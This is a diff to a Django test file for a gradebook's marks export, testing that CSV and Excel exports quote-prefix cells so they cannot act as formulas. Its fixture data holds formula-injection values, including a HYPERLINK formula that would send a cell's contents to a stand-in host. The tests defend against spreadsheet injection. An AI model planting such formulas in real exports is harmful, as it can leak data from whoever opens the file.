@@ -1,7 +1,10 @@
 """A sheet leaves as a file that is safe to open, and comes back as what it was."""
 
+import io
 from collections.abc import Callable
+from typing import Any
 
+import openpyxl
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client
@@ -39,37 +42,73 @@ def odd(world: World, columns: list[Column], teacher: User) -> User:
 
 
 @pytest.fixture
-def export(client: Client, world: World, teacher: User) -> Callable[[str], bytes]:
+def export(client: Client, world: World, teacher: User) -> Callable[[str, str], bytes]:
+    """Return what the teacher is given, by kind of file and language."""
     client.force_login(teacher)
-    url = reverse("gradebook:export_marks", args=[world.sheet.pk])
-    return lambda language: client.get(url, headers={"accept-language": language}).content
+    urls = {kind: reverse(f"gradebook:export_{kind}", args=[world.sheet.pk]) for kind in ("text", "workbook")}
+    return lambda kind, language: client.get(urls[kind], headers={"accept-language": language}).content
 
 
-def test_texts_are_no_formulas_and_numbers_stay_numbers(odd: User, export: Callable[[str], bytes]) -> None:
+def test_texts_are_no_formulas_and_numbers_stay_numbers(
+    odd: User, export: Callable[[str, str], bytes]
+) -> None:
     """O22."""
-    text = export("en").decode("utf-8-sig")
+    text = export("text", "en").decode("utf-8-sig")
     assert text.splitlines() == [
         "username,student,Essay,'=1+1,Name,'@ home",
         '\'+odd,"\'=HYPERLINK(""http://x.test?""&A1) -Smith",1234.5,0,absent,',
         "plain,Ann Zoe,,,,",
     ]
-    assert export("de").decode("utf-8-sig").splitlines()[1].endswith(";1234,5;0;absent;")
+    assert export("text", "de").decode("utf-8-sig").splitlines()[1].endswith(";1234,5;0;absent;")
 
 
+def test_workbook_holds_texts_that_stay_texts_and_numbers(
+    odd: User, export: Callable[[str, str], bytes]
+) -> None:
+    """O22: also once somebody has edited such a cell, which is what the quote prefix is for."""
+    sheet = openpyxl.load_workbook(io.BytesIO(export("workbook", "de"))).active
+    assert sheet is not None
+
+    def show(cell: Any) -> tuple[Any, str, bool]:
+        return cell.value, cell.data_type, bool(cell.quotePrefix)
+
+    assert [[show(cell) for cell in row] for row in sheet.iter_rows(max_row=2)] == [
+        [
+            ("username", "s", False),
+            ("student", "s", False),
+            ("Essay", "s", False),
+            ("=1+1", "s", True),
+            ("Name", "s", False),
+            ("@ home", "s", True),
+        ],
+        [
+            ("+odd", "s", True),
+            ('=HYPERLINK("http://x.test?"&A1) -Smith', "s", True),
+            (1234.5, "n", False),
+            (0, "n", False),
+            ("absent", "s", False),
+            (None, "n", False),
+        ],
+    ]
+    assert sheet.freeze_panes == "C2"
+
+
+@pytest.mark.parametrize("kind", ["text", "workbook"])
 @pytest.mark.parametrize("language", ["en", "de"])
 def test_export_imported_unchanged_changes_nothing(
     language: str,
+    kind: str,
     odd: User,
     client: Client,
     world: World,
     columns: list[Column],
-    export: Callable[[str], bytes],
+    export: Callable[[str, str], bytes],
 ) -> None:
     """O23, in both decimals, past every odd name and title."""
     before = count_events(columns)
     page = client.post(
         reverse("gradebook:import_marks", args=[world.sheet.pk]),
-        {"file": SimpleUploadedFile("marks.csv", export(language)), "is_clearing": "on"},
+        {"file": SimpleUploadedFile("marks", export(kind, language)), "is_clearing": "on"},
         headers={"accept-language": language},
     )
     assert (page.status_code, page.context["lines"], page.context["plan"].unchanged) == (200, [], 8)
@@ -77,10 +116,11 @@ def test_export_imported_unchanged_changes_nothing(
     assert count_events(columns) == before
 
 
+@pytest.mark.parametrize("kind", ["text", "workbook"])
 def test_sheet_is_given_to_those_who_may_read_it_also_when_it_is_locked(
-    odd: User, client: Client, world: World, teacher: User, other_teacher: User, student: User
+    kind: str, odd: User, client: Client, world: World, teacher: User, other_teacher: User, student: User
 ) -> None:
-    url = reverse("gradebook:export_marks", args=[world.sheet.pk])
+    url = reverse(f"gradebook:export_{kind}", args=[world.sheet.pk])
     office = factories.admin(school=world.school)
     lock_term(period_id=world.period.pk, by=office)
     seen = {}
